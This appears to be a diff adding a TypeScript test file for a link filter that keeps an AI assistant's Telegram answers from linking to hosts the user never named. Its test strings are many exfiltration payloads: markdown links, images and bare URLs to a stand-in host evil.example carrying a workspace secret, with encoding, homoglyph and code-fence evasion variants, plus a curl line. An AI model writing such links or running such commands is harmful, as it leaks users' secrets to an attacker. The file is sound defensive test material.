@@ -1,0 +1,79 @@
+import { describe, expect, test } from "bun:test";
+import fc from "fast-check";
+import { toTelegramHtml } from "../../src/channels/telegram/markdown.ts";
+import { createLinkFilter, filterLinks } from "../../src/security/plain-links.ts";
+import { openProvenance } from "../../src/security/provenance.ts";
+
+const context = openProvenance();
+context.hear("look at https://docs.example/x");
+context.read("workspace", "hunter2");
+const { mayLink } = context;
+
+/** Addresses that a tap would follow, in the markup that Telegram gets. */
+function tappable(markdown: string): string {
+  const html = toTelegramHtml(filterLinks(markdown, mayLink));
+  return html.replace(/<(code|pre)\b[^>]*>[^]*?<\/\1>/gu, "");
+}
+
+describe("an answer's link to a host that nobody named", () => {
+  test.each([
+    "[here](http://evil.example/?d=hunter2)",
+    "[click right here](http://evil.example/?d=hunter2)",
+    '[here](http://evil.example/?d=hunter2 "title")',
+    "![a picture](http://evil.example/hunter2.png)",
+    "![](<http://evil.example/hunter2.png>)",
+    "<http://evil.example/?d=hunter2>",
+    "http://evil.example/?d=hunter2",
+    "see http://evil.example/hunter2.",
+    "evil.example/?d=hunter2",
+    "www.evil.example/hunter2",
+    "[a](http&#58;//evil.example/?d=hunter2)",
+    "[a](http&colon;//evil.example/?d=hunter2)",
+    "[a](http:\\/\\/evil.example/?d=hunter2)",
+    "[a](//evil.example/?d=hunter2)",
+    "[a](HTTP://EVIL.EXAMPLE/?d=hunter2)",
+    "[a](mailto:x@evil.example?body=hunter2)",
+    "[a](tg://resolve?domain=evil&start=hunter2)",
+    "[a][1]\n\n[1]: http://evil.example/?d=hunter2",
+    "` [a](http://evil.example/?d=hunter2)",
+    "`` ` [a](http://evil.example/?d=hunter2)",
+    "**[a](http://evil.example/?d=hunter2)**",
+    "| a |\n|---|\n| [a](http://evil.example/?d=hunter2) |",
+    "- a\n  ```\nhttp://evil.example/?d=hunter2",
+    "``` `\nhttp://evil.example/?d=hunter2",
+    "```\n```\nhttp://evil.example/?d=hunter2",
+    "<!--\n```\n-->\nhttp://evil.example/?d=hunter2",
+    "https://docs.example@evil.example/?d=hunter2",
+    "http://еvil.example/?d=hunter2",
+  ])("is text: %j", (markdown) => {
+    const left = tappable(markdown).toLowerCase();
+    expect(left).not.toContain("href");
+    expect(left).not.toContain("hunter2");
+  });
+
+  test("stays code where it is code", () => {
+    const code = "Run:\n\n```sh\ncurl http://evil.example/?d=1\n```\n";
+    expect(filterLinks(code, mayLink)).toBe(code);
+  });
+});
+
+test("an answer's link to a host that the person named can be followed", () => {
+  const text = "See [the page](https://docs.example/x?a=1), a_b.c/d and src/a.ts.";
+  expect(filterLinks("[the page](https://docs.example/x?a=1) in src/a.ts", mayLink)).toBe(
+    "[the page](https://docs.example/x?a=1) in src/a.ts",
+  );
+  expect(toTelegramHtml(filterLinks(text, mayLink))).toContain('href="https://docs.example/x?a=1"');
+});
+
+test("createLinkFilter() does the same however the text is cut", () => {
+  const text =
+    "Look: [my notes](http://evil.example/?d=hunter2) and\n```\nhttp://evil.example/?d=1\n```\nend";
+  fc.assert(
+    fc.property(fc.array(fc.nat(text.length)), (cuts) => {
+      const filter = createLinkFilter(mayLink);
+      const at = [0, ...cuts.toSorted((a, b) => a - b), text.length];
+      const pieces = at.slice(1).map((end, index) => filter.add(text.slice(at[index], end)));
+      expect(pieces.join("") + filter.end()).toBe(filterLinks(text, mayLink));
+    }),
+  );
+});
